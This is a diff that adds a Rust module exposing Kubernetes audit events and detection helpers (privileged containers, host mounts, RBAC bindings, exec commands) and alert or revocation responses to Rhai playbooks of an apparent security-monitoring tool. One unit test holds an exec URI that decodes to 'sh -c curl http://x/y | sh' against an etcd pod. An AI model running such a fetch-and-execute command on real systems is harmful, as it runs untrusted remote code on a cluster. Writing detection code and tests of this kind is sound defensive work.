@@ -1,0 +1,280 @@
+//! The host API: the only way a playbook reaches anything — event fields, enrichment, helpers over request objects, lists, response constructors.
+
+use std::collections::{HashMap, HashSet};
+use std::sync::{Arc, OnceLock};
+
+use rhai::{Array, Dynamic, Engine, Map};
+use serde_json::Value;
+
+use crate::event::AuditEvent;
+
+/// The event as a playbook sees it: shared, with request/response objects and
+/// enrichment converted only when a script first touches them.
+#[derive(Clone)]
+pub struct Ev(Arc<EvInner>);
+
+struct EvInner {
+    ev: AuditEvent,
+    request: OnceLock<Option<Value>>,
+    response: OnceLock<Option<Value>>,
+    request_dyn: OnceLock<Dynamic>,
+    response_dyn: OnceLock<Dynamic>,
+    enrichment: OnceLock<Map>,
+}
+
+impl Ev {
+    pub fn new(ev: AuditEvent) -> Self {
+        Self(Arc::new(EvInner {
+            ev,
+            request: OnceLock::new(),
+            response: OnceLock::new(),
+            request_dyn: OnceLock::new(),
+            response_dyn: OnceLock::new(),
+            enrichment: OnceLock::new(),
+        }))
+    }
+
+    pub fn event(&self) -> &AuditEvent {
+        &self.0.ev
+    }
+
+    /// Gives the event back once no script holds it (they never keep it).
+    pub fn into_event(self) -> AuditEvent {
+        match Arc::try_unwrap(self.0) {
+            Ok(inner) => inner.ev,
+            Err(shared) => shared.ev.clone(),
+        }
+    }
+
+    pub fn request(&self) -> Option<&Value> {
+        self.0
+            .request
+            .get_or_init(|| self.0.ev.request_object.as_ref().and_then(|r| serde_json::from_str(r.get()).ok()))
+            .as_ref()
+    }
+
+    fn response(&self) -> Option<&Value> {
+        self.0
+            .response
+            .get_or_init(|| self.0.ev.response_object.as_ref().and_then(|r| serde_json::from_str(r.get()).ok()))
+            .as_ref()
+    }
+
+    fn enrichment_part(&self, part: &str) -> Dynamic {
+        let map = self.0.enrichment.get_or_init(|| {
+            self.0
+                .ev
+                .enrichment
+                .as_deref()
+                .and_then(|e| rhai::serde::to_dynamic(e).ok())
+                .and_then(|d| d.try_cast::<Map>())
+                .unwrap_or_default()
+        });
+        map.get(part).cloned().unwrap_or_else(|| Dynamic::from(Map::new()))
+    }
+}
+
+fn json_dyn(v: Option<&Value>) -> Dynamic {
+    v.and_then(|v| rhai::serde::to_dynamic(v).ok()).unwrap_or(Dynamic::UNIT)
+}
+
+fn opt(s: Option<&str>) -> Dynamic {
+    s.map_or(Dynamic::UNIT, |s| Dynamic::from(s.to_owned()))
+}
+
+fn strings<'a>(it: impl IntoIterator<Item = &'a str>) -> Array {
+    it.into_iter().map(|s| Dynamic::from(s.to_owned())).collect()
+}
+
+/// The pod spec inside a request object: a Pod, a workload's template, or a CronJob's job template.
+pub fn pod_spec(obj: &Value) -> Option<&Value> {
+    let spec = obj.get("spec")?;
+    if spec.get("containers").is_some() {
+        return Some(spec);
+    }
+    spec.pointer("/template/spec")
+        .or_else(|| spec.pointer("/jobTemplate/spec/template/spec"))
+}
+
+fn containers(obj: &Value) -> Vec<&Value> {
+    let Some(spec) = pod_spec(obj) else {
+        return Vec::new();
+    };
+    ["initContainers", "containers", "ephemeralContainers"]
+        .iter()
+        .filter_map(|k| spec.get(*k).and_then(Value::as_array))
+        .flatten()
+        .collect()
+}
+
+/// The command of an exec request, decoded from the requestURI's `command=` parameters.
+pub fn exec_command(uri: &str) -> String {
+    let query = uri.split_once('?').map_or("", |(_, q)| q);
+    query
+        .split('&')
+        .filter_map(|kv| kv.strip_prefix("command="))
+        .map(percent_decode)
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn percent_decode(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            b'+' => out.push(b' '),
+            b'%' if i + 2 < b.len() => {
+                match u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16) {
+                    Ok(v) => {
+                        out.push(v);
+                        i += 2;
+                    }
+                    Err(_) => out.push(b'%'),
+                }
+            }
+            c => out.push(c),
+        }
+        i += 1;
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// Registers the event type, its fields, the helpers, lists and response constructors.
+pub fn register(engine: &mut Engine, lists: Arc<HashMap<String, HashSet<String>>>) {
+    engine.register_type_with_name::<Ev>("Event");
+    // Plain fields.
+    engine.register_get("verb", |e: &mut Ev| e.event().verb.clone());
+    engine.register_get("stage", |e: &mut Ev| e.event().stage.as_str().to_owned());
+    engine.register_get("uri", |e: &mut Ev| e.event().request_uri.clone());
+    engine.register_get("audit_id", |e: &mut Ev| e.event().audit_id.clone());
+    engine.register_get("user", |e: &mut Ev| e.event().user.username.clone());
+    engine.register_get("groups", |e: &mut Ev| strings(e.event().user.groups.iter().map(String::as_str)));
+    engine.register_get("impersonated", |e: &mut Ev| opt(e.event().impersonated_user.as_ref().map(|u| u.username.as_str())));
+    engine.register_get("user_agent", |e: &mut Ev| opt(e.event().user_agent.as_deref()));
+    engine.register_get("source_ips", |e: &mut Ev| strings(e.event().source_ips.iter().map(String::as_str)));
+    engine.register_get("cluster", |e: &mut Ev| e.event().provenance.cluster.clone());
+    engine.register_get("code", |e: &mut Ev| i64::from(e.event().response_code().unwrap_or(0)));
+    let oref = |f: fn(&crate::event::ObjectReference) -> Option<&String>| {
+        move |e: &mut Ev| opt(e.event().object_ref.as_ref().and_then(f).map(String::as_str))
+    };
+    engine.register_get("resource", oref(|o| o.resource.as_ref()));
+    engine.register_get("subresource", oref(|o| o.subresource.as_ref()));
+    engine.register_get("namespace", oref(|o| o.namespace.as_ref()));
+    engine.register_get("name", oref(|o| o.name.as_ref()));
+    engine.register_get("api_group", oref(|o| o.api_group.as_ref()));
+    engine.register_get("annotations", |e: &mut Ev| {
+        e.event()
+            .annotations
+            .iter()
+            .map(|(k, v)| (k.as_str().into(), Dynamic::from(v.clone())))
+            .collect::<Map>()
+    });
+    // Objects and enrichment, converted on first use.
+    engine.register_get("request", |e: &mut Ev| e.0.request_dyn.get_or_init(|| json_dyn(e.request())).clone());
+    engine.register_get("response", |e: &mut Ev| e.0.response_dyn.get_or_init(|| json_dyn(e.response())).clone());
+    for part in ["identity", "network", "asset", "baseline"] {
+        engine.register_get(part, move |e: &mut Ev| e.enrichment_part(part));
+    }
+    engine.register_fn("pointer", |e: &mut Ev, ptr: &str| -> Dynamic {
+        let (root, rest) = match ptr.strip_prefix("/responseObject") {
+            Some(rest) => (e.response(), rest),
+            None => (e.request(), ptr.strip_prefix("/requestObject").unwrap_or(ptr)),
+        };
+        json_dyn(root.and_then(|v| if rest.is_empty() { Some(v) } else { v.pointer(rest) }))
+    });
+    // Helpers over the request object.
+    engine.register_fn("is_system_user", |e: &mut Ev| {
+        let u = &e.event().user.username;
+        u.starts_with("system:") && !u.starts_with("system:serviceaccount:") || u.starts_with("system:serviceaccount:kube-system:")
+    });
+    engine.register_fn("container_images", |e: &mut Ev| {
+        strings(e.request().map(containers).unwrap_or_default().iter().filter_map(|c| c["image"].as_str()))
+    });
+    engine.register_fn("has_privileged_container", |e: &mut Ev| {
+        e.request()
+            .map(containers)
+            .unwrap_or_default()
+            .iter()
+            .any(|c| c.pointer("/securityContext/privileged").and_then(Value::as_bool) == Some(true))
+    });
+    engine.register_fn("host_path_mounts", |e: &mut Ev| {
+        let vols = e.request().and_then(pod_spec).and_then(|s| s["volumes"].as_array().cloned()).unwrap_or_default();
+        strings(vols.iter().filter_map(|v| v.pointer("/hostPath/path").and_then(Value::as_str)))
+    });
+    engine.register_fn("added_capabilities", |e: &mut Ev| {
+        let mut caps: Vec<&str> = Vec::new();
+        for c in e.request().map(containers).unwrap_or_default() {
+            if let Some(add) = c.pointer("/securityContext/capabilities/add").and_then(Value::as_array) {
+                caps.extend(add.iter().filter_map(Value::as_str));
+            }
+        }
+        strings(caps)
+    });
+    engine.register_fn("host_namespaces", |e: &mut Ev| {
+        let spec = e.request().and_then(pod_spec);
+        let on = |k: &str| spec.and_then(|s| s[k].as_bool()).unwrap_or(false);
+        let mut out = Vec::new();
+        for (key, name) in [("hostNetwork", "network"), ("hostPID", "pid"), ("hostIPC", "ipc")] {
+            if on(key) {
+                out.push(name);
+            }
+        }
+        strings(out)
+    });
+    engine.register_fn("binding_subjects", |e: &mut Ev| json_dyn(e.request().and_then(|r| r.get("subjects"))));
+    engine.register_fn("binding_role", |e: &mut Ev| opt(e.request().and_then(|r| r.pointer("/roleRef/name")).and_then(Value::as_str)));
+    engine.register_fn("role_rules", |e: &mut Ev| json_dyn(e.request().and_then(|r| r.get("rules"))));
+    engine.register_fn("exec_command", |e: &mut Ev| exec_command(&e.event().request_uri));
+    // Lists from config, so users tune without editing scripts.
+    let l = lists.clone();
+    engine.register_fn("in_list", move |name: &str, value: &str| l.get(name).is_some_and(|s| s.contains(value)));
+    engine.register_fn("list", move |name: &str| {
+        let mut v: Vec<&str> = lists.get(name).map(|s| s.iter().map(String::as_str).collect()).unwrap_or_default();
+        v.sort_unstable();
+        strings(v)
+    });
+    // Response constructors: data in the verdict; the responders execute them.
+    engine.register_fn("slack", |channel: &str| response("slack", [("channel", channel)]));
+    engine.register_fn("revoke_binding", || response("revoke_binding", [("mode", "remove_subject")]));
+    engine.register_fn("delete_binding", || response("revoke_binding", [("mode", "delete")]));
+    engine.register_fn("webhook", |name: &str| response("webhook", [("name", name)]));
+    engine.register_fn("kafka_alert", || response("kafka", []));
+    engine.register_fn("with_approval", |mut r: Map| {
+        r.insert("approval".into(), Dynamic::TRUE);
+        r
+    });
+}
+
+fn response<const N: usize>(kind: &str, params: [(&str, &str); N]) -> Map {
+    let mut m = Map::new();
+    m.insert("kind".into(), Dynamic::from(kind.to_owned()));
+    for (k, v) in params {
+        m.insert(k.into(), Dynamic::from(v.to_owned()));
+    }
+    m
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn decodes_exec_commands_from_the_request_uri() {
+        let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
+        assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
+        assert_eq!(exec_command("/api/v1/pods"), "");
+    }
+
+    #[test]
+    fn finds_pod_specs_in_pods_workloads_and_cronjobs() {
+        let pod = serde_json::json!({"spec": {"containers": [{"image": "a"}]}});
+        let dep = serde_json::json!({"spec": {"template": {"spec": {"containers": [{"image": "b"}], "initContainers": [{"image": "i"}]}}}});
+        let cron = serde_json::json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "c"}]}}}}}});
+        let images = |v: &Value| containers(v).iter().map(|c| c["image"].as_str().unwrap().to_owned()).collect::<Vec<_>>();
+        assert_eq!(images(&pod), ["a"]);
+        assert_eq!(images(&dep), ["i", "b"]);
+        assert_eq!(images(&cron), ["c"]);
+    }
+}
